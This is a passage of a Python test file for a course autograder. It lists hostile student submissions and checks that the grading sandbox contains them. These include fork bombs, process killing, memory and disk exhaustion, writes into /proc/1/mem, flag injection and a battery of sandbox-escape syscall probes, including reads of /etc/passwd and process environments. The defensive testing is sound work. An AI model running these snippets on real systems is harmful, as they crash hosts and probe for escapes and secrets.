        "Node: a report that is no JSON, a link, a folder",
        r"""%%node --save double-all.mjs
import { readdirSync, readFileSync, symlinkSync } from 'node:fs';
for (const name of readdirSync('.')) {
  if (!name.endsWith('.json')) continue;
  const { report } = JSON.parse(readFileSync(name, 'utf8'));
  if (report) { symlinkSync('/etc/passwd', report); process.reallyExit(0); }
}
export const doubleAll = () => [2, 4];
""",
        exercise="double-all",
    ),
    Attack(
        "js-fifo-report",
        "Node: the report is a pipe that nobody writes to",
        r"""%%node --save double-all.mjs
import { execFileSync } from 'node:child_process';
import { readdirSync, readFileSync } from 'node:fs';
for (const name of readdirSync('.')) {
  if (!name.endsWith('.json')) continue;
  const { report } = JSON.parse(readFileSync(name, 'utf8'));
  if (report) { execFileSync('mkfifo', [report]); process.reallyExit(0); }
}
export const doubleAll = () => [2, 4];
""",
        exercise="double-all",
        slow=True,
    ),
    Attack(
        "js-detached",
        "Node: a detached server that is to outlive the grading",
        r"""%%node --save double-all.mjs
import { spawn } from 'node:child_process';
spawn(process.execPath, ['-e', 'setInterval(() => {}, 1e6); /* outlives @MARK@ */'],
  { detached: true, stdio: 'ignore' }).unref();
export const doubleAll = (numbers) => numbers.map((number) => number * 2);
""",
        exercise="double-all",
        score=3.0,
    ),
    Attack(
        "js-kills-parent",
        "Node: kills its parent and everything it may",
        r"""%%node --save double-all.mjs
import { hostname } from 'node:os';
if (hostname() === 'sandbox') { process.kill(process.ppid, 'SIGKILL'); process.kill(-1, 'SIGKILL'); }
export const doubleAll = () => [2, 4];
""",
        exercise="double-all",
        told="ended the process",
    ),
    Attack(
        "js-save-outside",
        "Node: `--save ../../../canary`",
        "%%node --save ../../../../canary.mjs\nlet x;",
        exercise="double-all",
        told="inside the workspace|not there yet",
    ),
    Attack(
        "js-flags",
        "Node: flags that load code before the harness",
        "%%node --save double-all.mjs --flags "
        "'--import data:text/javascript,process.exit(0)'\nexport const doubleAll = () => [2, 4];",
        exercise="double-all",
        score=CONSTANT,
    ),
]

# ---- what runs: for the machine -------------------------------------------------------------------------------------

MACHINE = [
    Attack(
        "kill-parent", "kills its parent", python(GUARD + "import os\nos.kill(os.getppid(), 9)", right=True), score=3.0
    ),
    Attack(
        "kill-all",
        "SIGTERM, SIGSTOP, SIGKILL to every process that it may signal",
        python(
            GUARD
            + """
import os
for number in (15, 19, 1, 9):
    try: os.kill(-1, number)
    except OSError: pass
    for pid in range(1, 500):
        if pid != os.getpid():
            try: os.kill(pid, number)
            except OSError: pass
""",
            right=True,
        ),
        score=3.0,
    ),
    Attack(
        "stops-itself",
        "SIGSTOP of itself",
        GUARD + "import os\nos.kill(os.getpid(), 19)",
        told=LATE,
        slow=True,
    ),
    Attack(
        "daemons",
        "40 children that outlive",
        python(
            GUARD
            + """
import os
for _ in range(40):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execvp("sleep", ["sleep", "600.0@MARK@"])
        os._exit(0)
""",
            right=True,
        ),
        score=3.0,
        nbgrader="all survived",
    ),
    Attack(
        "names-itself",
        "a child that calls itself by the grader's own name",
        python(
            GUARD
            + """
import ctypes, os, time
if os.fork() == 0:
    os.setsid()
    ctypes.CDLL(None).prctl(15, b"backendlab grade", 0, 0, 0)
    os.execv("/bin/sleep", ["backendlab.cli grade", "600.0@MARK@"])
""",
            right=True,
        ),
        score=3.0,
    ),
    Attack(
        "writes-pid-1",
        "writes over the memory of its sandbox's first process",
        python(
            GUARD
            + """
import re
for row in open("/proc/1/maps"):
    span, rights, *_ = row.split()
    if rights.startswith("rw"):
        first, last = (int(end, 16) for end in span.split("-"))
        with open("/proc/1/mem", "r+b", 0) as memory:
            try:
                memory.seek(first)
                memory.write(b"\\xcc" * min(last - first, 1 << 20))
            except (OSError, ValueError, OverflowError):
                pass
"""
        ),
        score=CONSTANT,
    ),
    Attack(
        "thread-bomb",
        "as many threads as it gets",
        python(
            GUARD
            + """
import threading, time
started = 0
try:
    for _ in range(5000):
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
        started += 1
except RuntimeError:
    pass
assert started < 300, started
""",
            right=True,
        ),
        score=0.0,
        told="ended the process that was to answer",
    ),
    Attack(
        "fills-tmp",
        "fills /tmp: 2 GB on disk",
        GUARD
        + """
import os
try:
    for number in range(40):
        with open(f"/tmp/big-{number}", "wb") as file:
            for _ in range(50): file.write(bytes(1 << 20))
except OSError as error: said = error.strerror
size = sum(os.stat(f"/tmp/big-{n}").st_size for n in range(40) if os.path.exists(f"/tmp/big-{n}"))
def paginate(*_, **__): raise ValueError(f"{said} after {size >> 20} MiB")
""",
        told=r"No space left on device after 2[45]\d MiB",
        nbgrader="copied twice",
    ),
    Attack(
        "inodes",
        "files until there is no room for more",
        GUARD
        + """
import os
os.mkdir("/tmp/many")
try:
    for number in range(10**6): os.mkfifo(f"/tmp/many/{number}")
except OSError as error: said = error.strerror
def paginate(*_, **__): raise ValueError(f"{said} after {number // 1000}000")
""",
        told="No space left on device after (19|20)000",
    ),
    Attack(
        "sparse",
        "a sparse file of 10 GB",
        GUARD
        + """
import os
try: os.truncate(os.open("/tmp/sparse", os.O_RDWR | os.O_CREAT), 10 << 30)
except OSError as error: said = error.strerror
def paginate(*_, **__): raise ValueError(said)
""",
        told="File too large",
    ),
    Attack(
        "output",
        "60 MB of output, on stdout, stderr, /dev/stdout",
        python(
            """
import os, sys
print("x" * 20_000_000)
sys.stderr.write("x" * 20_000_000)
os.write(1, b"x" * 20_000_000)
""",
            right=True,
        ),
        score=3.0,
        nbgrader="written out twice",
    ),
    Attack("memory-at-once", "64 GB at once", python(GUARD + "block = bytearray(64 << 30)"), told="MemoryError"),
    Attack(
        "memfd",
        "memory in files that have no name and are mapped nowhere",
        python(
            GUARD
            + """
import os
kept = []
while True:
    kept.append(os.memfd_create("x"))
    for _ in range(100): os.write(kept[-1], bytes(1 << 20))
"""
        ),
        told="PermissionError",
    ),
    Attack(
        "system-v",
        "memory in System V segments that nothing is attached to",
        GUARD
        + """
import ctypes
libc, made = ctypes.CDLL(None, use_errno=True), 0
libc.shmat.restype = ctypes.c_void_p
libc.shmdt.argtypes = [ctypes.c_void_p]
while (number := libc.shmget(0, 64 << 20, 0o1600)) >= 0 and made < 10_000:
    at = libc.shmat(number, None, 0)
    libc.shmdt(at)
    made += 64
def paginate(*_, **__): raise ValueError(f"made {made} MiB")
""",
        told=r"made (0|64|128|192|256) MiB",
    ),
    # ---- those that need time or memory ----
    Attack(
        "loop",
        "infinite loop",
        "while True: pass",
        told=LATE,
        slow=True,
        nbgrader="30 s for each test cell after it; no limit for the notebook",
    ),
    Attack(
        "loop-no-thread",
        "a loop that lets no other thread of its process run, when asked",
        "def paginate(*_, **__): import re; re.match('(a+)+$', 'a' * 60 + 'b')",
        told=LATE,
        slow=True,
    ),
    Attack(
        "just-in-time",
        "sleeps for as long as it may, then answers",
        python("import time\ntime.sleep(1.5)", right=True),
        score=3.0,
        slow=True,
    ),
    Attack(
        "no-end-of-output",
        "output without end",
        "while True: print('x' * 10000)",
        told=f"{LATE}|more than 512 MiB of memory",
        slow=True,
    ),
    Attack(
        "ignores-signals",
        "ignores every signal and never ends",
        GUARD
        + """
import signal, time
for number in range(1, 65):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
while True:
    try: time.sleep(600)
    except BaseException: pass
""",
        told=LATE,
        slow=True,
    ),
    Attack(
        "memory",
        "4 GB of memory",
        GUARD
        + """
kept = []
while True: kept.append(b"x" * (16 << 20))
""",
        told="used more than 512 MiB of memory",
        slow=True,
        nbgrader="no limit",
    ),
    Attack(
        "memory-in-many",
        "memory in many processes, whose parents have ended",
        GUARD
        + """
import os, time
for _ in range(30):
    if os.fork() == 0:
        if os.fork() == 0:
            kept = b"x" * (100 << 20)
            time.sleep(600)
        os._exit(0)
    time.sleep(0.02)
time.sleep(600)
""",
        told="used more than 512 MiB of memory",
        slow=True,
    ),
    Attack(
        "memory-out-of-sight",
        "shared memory that is let go of, but kept",
        GUARD
        + """
import mmap
kept = []
while True:
    kept.append(mmap.mmap(-1, 64 << 20))
    for at in range(0, 64 << 20, 4096): kept[-1][at] = 1
    kept[-1].madvise(mmap.MADV_DONTNEED)
""",
        told="used more than 512 MiB of memory",
        slow=True,
    ),
    Attack(
        "memory-in-sockets",
        "memory of the kernel's: sockets and pipes, full and never read",
        GUARD
        + """
import os, socket, time
for _ in range(3): os.fork()
kept = []
try:
    while True:
        kept.append(socket.socketpair())
        kept[-1][0].send(bytes(65536))
except OSError:
    time.sleep(600)
""",
        told="used more than 8192 open files",
        slow=True,
    ),
    Attack(
        "fork-bomb",
        "a fork bomb, every process busy and in a session of its own",
        GUARD
        + """
import os, time
late = time.monotonic() + 3
while time.monotonic() < late:
    try: os.fork() or os.setsid()
    except OSError: pass
time.sleep(600)
""",
        told=LATE,
        slow=True,
    ),
]

EVERY = [*SUBMITTED, *ANSWERS, *MACHINE]

# ---- what there is to see, and to call, in a sandbox ----------------------------------------------------------------

LOOKS_BEGIN = (
    GUARD
    + r"""
import ctypes, gc, glob, json, os, platform, re, resource, signal, socket, subprocess, sys
found = {}
def look(name, function):
    try: found[name] = str(function())[:200]
    except BaseException as error: found[name] = f"{type(error).__name__}: {error}"[:200]
libc = ctypes.CDLL(None, use_errno=True)
on_x86 = platform.machine() == "x86_64"
status = open("/proc/self/status").read()
def call(x86, arm, *words):
    ctypes.set_errno(0)
    number = {"x86_64": x86, "aarch64": arm}[platform.machine()]
    result = libc.syscall(ctypes.c_long(number), *(ctypes.c_long(w) if isinstance(w, int) else w for w in words))
    return os.strerror(ctypes.get_errno()) if result < 0 else f"done: {result}"
def ended(work):
    pid = os.fork()
    if pid == 0:
        work()
        os._exit(0)
    return signal.Signals(-os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])).name
def machine_code(*code):
    libc.mmap.restype = ctypes.c_void_p
    at = libc.mmap(None, 4096, 7, 0x22, -1, 0)
    ctypes.memmove(at, bytes(code), len(code))
    ctypes.CFUNCTYPE(ctypes.c_long)(at)()
def socket_of(family, kind, protocol=0):
    socket.socket(family, kind, protocol).close()
    return "made"
def can_write():
    there = ["/*", "/*/*", sys.prefix, sys.prefix + "/lib/*/*", "@COURSE@/backendlab", "@COURSE@/backendlab/*"]
    there = [name for pattern in there for name in glob.glob(pattern)]
    return sorted({name for name in there if not name.startswith("/proc") and os.access(name, os.W_OK)
                   and not os.path.realpath(name).startswith(("/dev/", "/proc/"))})
"""
)
LOOKS_END = """
def paginate(*_, **__): raise ValueError("looked: " + json.dumps(found))
"""

NOT_PERMITTED = "Operation not permitted"
LOOKS: dict[str, tuple[str, str]] = {  # what is tried: how, and what comes of it (a regular expression for all of it)
    "its open files, told by /proc/self/fd": (
        "sorted({re.sub('[0-9]+', '', os.readlink(f'/proc/self/fd/{n}')) for n in os.listdir('/proc/self/fd') "
        "if os.path.lexists(f'/proc/self/fd/{n}')})",
        r"\['/dev/null', 'socket:\[\]'\]",
    ),
    "sockets, told one by one": (
        "sum(os.path.lexists(f'/proc/self/fd/{n}') and os.readlink(f'/proc/self/fd/{n}').startswith('socket') "
        "for n in os.listdir('/proc/self/fd'))",
        "1",
    ),
    "the open files of its sandbox's first process": (
        "{os.readlink(f'/proc/1/fd/{n}') for n in os.listdir('/proc/1/fd')}",
        r"\{'/dev/null'\}",
    ),
    "processes, told by /proc": ("sorted(n for n in os.listdir('/proc') if n.isdigit())", r"\['1', '2'\]"),
    "the course's folder": ("sorted(os.listdir('@COURSE@'))", r"\['backendlab'\]|\['backendlab', 'node_modules'\]"),
    "the grader's home": ("os.listdir('@HOME@')", "FileNotFoundError.*"),
    "the machine's /tmp": ("open('@CANARY@').read()", "FileNotFoundError.*"),
    "the machine's users": (
        "open('/etc/passwd').read(), os.path.exists('/etc/shadow')",
        r"\('student:[^:]*:1000.*False\)",
    ),
    "/proc/1/root": ("sorted(os.listdir('/proc/1/root')) == sorted(os.listdir('/'))", "True"),
    "/proc/1/cwd and what is above it": ("os.path.realpath('/proc/1/cwd/../../../..')", "/"),
    "what is above its root": (
        "os.stat('/..').st_ino == os.stat('/proc/self/root/../..').st_ino == os.stat('/').st_ino",
        "True",
    ),
    "/dev": ("sorted(os.listdir('/dev'))", r"\['fd', 'full', 'null', 'random', 'shm', 'urandom', 'zero'\]"),
    "the grader's environment": (
        "[n for n in glob.glob('/proc/[0-9]*/environ') if b'secret-of-the-grader' in open(n, 'rb').read()], "
        "'GRADERS_SECRET' in os.environ",
        r"\(\[\], False\)",
    ),
    "where it may write": ("can_write()", r"\['/tmp', '/tmp/work'\]"),
    "Python's own library": ("open(json.__file__, 'a')", "OSError.*Read-only file system.*|PermissionError.*"),
    "settings of the kernel": ("open('/proc/sys/kernel/core_pattern', 'w')", "PermissionError.*|OSError.*Read-only.*"),
    "the kernel's own levers": ("open('/proc/sysrq-trigger', 'w')", "PermissionError.*|FileNotFoundError.*|OSError.*"),
    "the size of /tmp": (
        "os.statvfs('/tmp').f_blocks * os.statvfs('/tmp').f_frsize >> 20, os.statvfs('/tmp').f_files",
        r"\(256, 20000\)",
    ),
    "network devices": ("socket.if_nameindex()", r"\[\(1, 'lo'\)\]"),
    "other connections of the machine, told by /proc/net": ("len(open('/proc/net/tcp').readlines())", "1"),
    "the machine's loopback": ("socket.create_connection(('127.0.0.1', @PORT@), 2)", "ConnectionRefusedError.*"),
    "an abstract socket of the machine's": (
        "socket.socket(socket.AF_UNIX).connect('\\0backendlab-canary-@PORT@')",
        "ConnectionRefusedError.*",
    ),
    "the hypervisor, by AF_VSOCK": ("socket_of(40, 1)", "OSError.*not supported.*|PermissionError.*"),
    "the kernel's ciphers, by AF_ALG": ("socket_of(38, 5)", "OSError.*not supported.*|PermissionError.*"),
    "packets, by AF_PACKET": ("socket_of(17, 3, 768)", "OSError.*not supported.*|PermissionError.*"),
    "raw sockets": ("socket_of(2, 3, 1)", "PermissionError.*"),
    "sockets that honest code needs": ("[socket_of(f, 1 if f < 16 else 3) for f in (1, 2, 10, 16)]", r"\['made'.*"),
    "unshare: a user namespace": ("call(272, 97, 0x10000000)", NOT_PERMITTED),
    "unshare: a mount namespace": ("call(272, 97, 0x20000)", NOT_PERMITTED),
    "clone: a user namespace": ("call(56, 220, 0x10000000 | 17, 0, 0, 0, 0)", NOT_PERMITTED),
    "clone: a network namespace": ("call(56, 220, 0x40000000 | 17, 0, 0, 0, 0)", NOT_PERMITTED),
    "clone3, whose arguments no filter sees": ("call(435, 435, 0, 0)", "Function not implemented"),
    "setns: the namespaces of process 1": (
        "{call(308, 268, os.open(n, os.O_RDONLY), 0) for n in glob.glob('/proc/1/ns/*')}",
        rf"\{{'{NOT_PERMITTED}'\}}",
    ),
    "mount": ("call(165, 40, b'none', b'/tmp', b'tmpfs', 0, 0)", NOT_PERMITTED),
    "umount": ("call(166, 39, b'/tmp', 2)", NOT_PERMITTED),
    "open_tree, fsopen, move_mount, mount_setattr": (
        "{call(n, n, 0, b'/', 0) for n in (428, 429, 430, 442)}",
        rf"\{{'{NOT_PERMITTED}'\}}",
    ),
    "chroot": ("call(161, 51, b'/tmp')", NOT_PERMITTED),
    "pivot_root": ("call(155, 41, b'/', b'/tmp')", NOT_PERMITTED),
    "ptrace: process 1": ("call(101, 117, 16, 1, 0, 0)", NOT_PERMITTED),
    "process_vm_readv, process_vm_writev": (
        "{call(310, 270, 1, 0, 0, 0, 0, 0), call(311, 271, 1, 0, 0, 0, 0, 0)}",
        rf"\{{'{NOT_PERMITTED}'\}}",
    ),
    "pidfd_getfd: another's descriptor": ("call(438, 438, 0, 0, 0)", NOT_PERMITTED),
    "keyctl, add_key, request_key": (
        "{call(n, m, 0, 0, 0, 0, 0) for n, m in ((250, 219), (248, 217), (249, 218))}",
        rf"\{{'{NOT_PERMITTED}'\}}",
    ),
    "io_uring": ("call(425, 425, 8, 0)", NOT_PERMITTED),
    "bpf": ("call(321, 280, 5, 0, 0)", NOT_PERMITTED),
    "perf_event_open": ("call(298, 241, 0, 0, -1, -1, 0)", NOT_PERMITTED),
    "userfaultfd": ("call(323, 282, 0)", NOT_PERMITTED),
    "open_by_handle_at": ("call(304, 265, -100, 0, 0)", NOT_PERMITTED),
    "memfd_create, memfd_secret": ("{call(319, 279, b'x', 0), call(447, 447, 0)}", rf"\{{'{NOT_PERMITTED}'\}}"),
    "init_module, kexec_load, reboot": (
        "{call(175, 105, 0, 0, 0), call(246, 104, 0, 0, 0, 0), call(169, 142, 0, 0, 0, 0)}",
        rf"\{{'{NOT_PERMITTED}'\}}",
    ),
    "32-bit system calls": (
        "ended(lambda: machine_code(0xb8, 20, 0, 0, 0, 0xcd, 0x80, 0xc3)) if on_x86 else 'SIGSYS'",
        "SIGSYS|SIGSEGV",
    ),
    "x32 system calls": (
        "ended(lambda: libc.syscall(0x40000027)) if on_x86 else 'SIGSYS'",
        "SIGSYS",
    ),
    "a device": ("os.mknod('/tmp/sda', 0o60666, os.makedev(8, 0))", "PermissionError.*"),
    "setuid programs": (
        "{subprocess.run([n, *words], capture_output=True, stdin=subprocess.DEVNULL).returncode != 0 for n, *words in "
        "(['su', '-c', 'id'], ['mount', '-t', 'tmpfs', 'x', '/tmp'], ['unshare', '-r', 'id'])}",
        r"\{True\}",
    ),
    "a setuid program of its own": (
        "os.chmod(os.open('/tmp/s', os.O_CREAT | os.O_WRONLY), 0o6777), os.setuid(0)",
        "OSError.*Invalid argument|PermissionError.*",
    ),
    "rights, told by /proc/self/status": (
        "re.findall('(?m)^Cap.*:.0*(.)$', status), re.findall('(?m)^(NoNewPrivs|Seccomp):.(.)$', status)",
        r"\(\['0'(, '0'){4}\], \[\('NoNewPrivs', '1'\), \('Seccomp', '2'\)\]\)",
    ),
    "more memory, processes, files than allowed": (
        "{resource.setrlimit(k, (resource.RLIM_INFINITY,) * 2) for k in (resource.RLIMIT_DATA, resource.RLIMIT_NPROC)}",
        "ValueError.*not allowed.*|PermissionError.*",
    ),
    "to be spared when memory runs out": (
        "os.write(os.open('/proc/self/oom_score_adj', os.O_WRONLY), b'-1000')",
        "PermissionError.*",
    ),
    "to be run before all others": ("os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))", "PermissionError.*"),
    "to be run more often": ("os.setpriority(os.PRIO_PROCESS, 0, -5)", "PermissionError.*"),
    "the clock": ("__import__('time').clock_settime(0, 0)", "PermissionError.*"),
    "the machine's name": ("socket.sethostname('owned')", "PermissionError.*"),
}
A_LOOK_AT_A_TIME = 12  # a message has so much room


def looking() -> list[Attack]:
    """The students who look around, some looks each; their messages say what they found."""
    names = list(LOOKS)
    groups = [names[at : at + A_LOOK_AT_A_TIME] for at in range(0, len(names), A_LOOK_AT_A_TIME)]
    return [
        Attack(
            f"looks-{number}",
            "looks around",
            LOOKS_BEGIN + "".join(f"look({name!r}, lambda: ({LOOKS[name][0]}))\n" for name in group) + LOOKS_END,
            told="looked: ",
        )
        for number, group in enumerate(groups)
    ]


# ---- the table ------------------------------------------------------------------------------------------------------


def outcome(attack: Attack) -> str:
    """What comes of it here, from what the test asserts."""
    if attack.refused:
        return f"not graded, a person is told: {_words(attack.told)}"
    points = f"{attack.score:g} of 3"
    if attack.score == CONSTANT:
        points += " (as for a constant)"
    return f"{points}: {_words(attack.told)}" if attack.told else points


def _words(expression: str) -> str:
    return re.sub(r"\\(.)", r"\1", expression.partition("|")[0]).replace("|", "/")


def table() -> str:
    rows = [(a.what, a.nbgrader, outcome(a)) for a in EVERY]
    rows += [(what, NOT_TRIED, "3 of 3, under that name") for what in NAMES.values()]
    rows += [(what, NOT_TRIED, "left alone, a person is told") for what in NO_NAMES.values()]
    rows += [(f"in the sandbox: {name}", NOT_TRIED, f"`{_words(came)}`") for name, (_, came) in LOOKS.items()]
    text = "".join(f"| {' | '.join(cell.replace('|', '/') for cell in row)} |\n" for row in rows)
    return HEAD + "| what a student hands in | plain nbgrader 0.9.6 | here |\n| --- | --- | --- |\n" + text


HEAD = """# What students may try, and what comes of it

Every row is a test (`tests/course/test_attacks.py`): a cohort in which one student each does this, with honest students
before, among and after them, is graded by `backendlab grade`. For all of them holds: the honest get exactly what is
theirs; `source/`, `submitted/`, `release/`, the package, a file in the grader's home and one in `/tmp` are what they
were; no process and no directory is left; what the instructor sees in the terminal has no control characters. "As for a
constant" means that the attack earned what a function earns that always returns what the visible check shows: no
attack earned more than an honest answer that says the same.

The middle column is what the same did to `nbgrader autograde` 0.9.6 in our measurements, "not tried" where we didn't.

What no row can promise:

- What a driver (`student.drive`, `student.node`) sees from inside is the student's word: whoever forges its report
  must know what to forge. Tests judge from outside what can be judged from there.
- What a test asks, the answer learns, and may tell in a message: hidden tests hide what they expect, not what they ask.
- Shared memory that no process has mapped wholly is measured exactly where the grader is root; else by what is mapped
  of it. A sandbox's processes are the first that the kernel ends when the machine runs out of memory.
- The kernel is shared. For people whom you would not give an account on the machine, grade in a virtual machine.
- `nbgrader zip_collect` and the exchange are nbgrader's own: a zip that unfolds to a gigabyte still does.

"""

if __name__ == "__main__":
    (Path(__file__).parents[2] / "docs" / "attacks.md").write_text(table(), encoding="utf-8")
